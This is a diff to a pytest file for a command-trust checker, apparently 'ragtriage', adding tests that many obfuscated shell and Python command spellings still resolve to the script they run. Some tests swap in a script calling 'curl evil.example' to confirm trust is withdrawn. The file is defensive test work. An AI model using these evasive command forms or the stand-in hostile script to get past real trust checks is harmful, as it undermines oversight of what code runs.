@@ -17,6 +17,7 @@ from ragtriage import trust
 from ragtriage.config import AnswersConfig, Config, CorpusConfig, JudgeConfig, RetrievalConfig
 from ragtriage.config_file import load_config
 from ragtriage.errors import ConfigError, StorageError, Untrusted
+from ragtriage.programs.identity import program_identity
 from ragtriage.project import Project
 
 __all__ = ["nothing_agreed", "root"]
@@ -305,6 +306,73 @@ def test_a_file_that_a_shell_or_python_would_take_is_part_of_it(root: Path, word
     trust.require(root, config)
     script(root, "#!/bin/sh\ncurl evil.example\n", name=file)
     refusal(root, config)
+
+
+EDITED = [
+    (("python3", "-um", "tools.gen"), "tools/gen.py"),
+    (("python3", "-Im", "tools.gen"), "tools/gen.py"),
+    (("python3", "-uBmtools.gen"), "tools/gen.py"),
+    (("env", "-C", "tools", "python3", "-um", "gen"), "tools/gen.py"),
+    (("sh", "-c", "python3 -um tools.gen"), "tools/gen.py"),
+    (("sh", "-c", "cd tools && ./s.sh"), "tools/s.sh"),
+    (("sh", "-c", "cd -P 'too'ls; exec ./s.sh"), "tools/s.sh"),
+    (("sh", "-c", "cd t*s; ./s.sh"), "tools/s.sh"),
+    (("sh", "-c", "cd tools\ncd deep\n./s.sh"), "tools/deep/s.sh"),
+    (("env", "-C", "tools", "./s.sh"), "tools/s.sh"),
+    (("env", "-iC", "tools", "./s.sh"), "tools/s.sh"),
+    (("env", "--chdir=tools", "./s.sh"), "tools/s.sh"),
+    (("env", "-S", 'sh "tools"/s.sh'), "tools/s.sh"),
+    (("sh", "-c", "./tools/*.sh"), "tools/s.sh"),
+    (("sh", "-c", "./*/[^a].s?"), "tools/s.sh"),
+    (("sh", "-c", "$PWD/tools/s.sh"), "tools/s.sh"),
+    (("sh", "-c", '"${PWD}"/tools/s.sh'), "tools/s.sh"),
+    (("sh", "-c", './to""ols/s.sh'), "tools/s.sh"),
+    (("sh", "-c", "./to\\ols/s.sh"), "tools/s.sh"),
+    (("bash", "-lc", """exec sh -c 'cd tools; "./s.sh"'"""), "tools/s.sh"),
+]
+UNTOLD = [
+    (("sh", "-c", 'for name in s; do "./tools/$name.sh"; done'), "tools/s.sh"),
+    (("sh", "-c", "cd tools && ./$(echo s).sh"), "tools/s.sh"),
+    (("sh", "-c", "cd tools && `echo ./s.sh`"), "tools/s.sh"),
+    (("sh", "-c", "cd tools; cd -; ls"), "tools/s.sh"),
+    (("bash", "-c", "./tools/{s,t}.sh"), "tools/s.sh"),
+    (("sh", "-c", "ls tools | xargs -I% sh tools/%"), "tools/s.sh"),
+    (("sh", "-c", "PATH=tools run"), "tools/run"),
+    (("sh", "-c", "ls tools/deep/*.none tools"), "tools/deep/s.pl"),
+]
+
+
+@pytest.mark.parametrize(("words", "file"), [*EDITED, *UNTOLD])
+def test_a_file_that_a_shell_or_python_would_find_counts_for_trust_and_for_answers(
+    root: Path, words: tuple[str, ...], file: str
+) -> None:
+    (root / "tools" / "deep").mkdir(parents=True)
+    script(root, name=file)
+    assert ("not all of them are covered" in sentence(root, command(*words))) == ((words, file) in UNTOLD)
+    agree(root, command(*words))
+    trust.require(root, command(*words))
+    before = program_identity(root, words)
+    script(root, "#!/bin/sh\ncurl evil.example\n", name=file)
+    refusal(root, command(*words))
+    assert program_identity(root, words) != before
+
+
+def test_what_no_shell_reads_is_told_whole(root: Path) -> None:
+    for words in (("llm", "a $b *"), ("./$gen", "`x`"), ("python3", "-c", "print('$x')"), ("sh", "gen.sh", "$x")):
+        assert "covered" not in sentence(root, command(*words))
+
+
+def test_a_command_of_a_shell_that_cannot_be_read_is_bounded_and_said(root: Path) -> None:
+    for text in (
+        "'",
+        "true;" * 20_000,
+        "cd a;cd b;cd c;cd d;cd e",
+        "/*/*/*/*",
+        "../*/x",
+        "true # it's",
+        "printf 'ls' | /bin/sh",
+    ):
+        assert "covered" in sentence(root, command("sh", "-c", text))
 
 
 def test_a_program_that_appears_later_asks_again(root: Path) -> None:
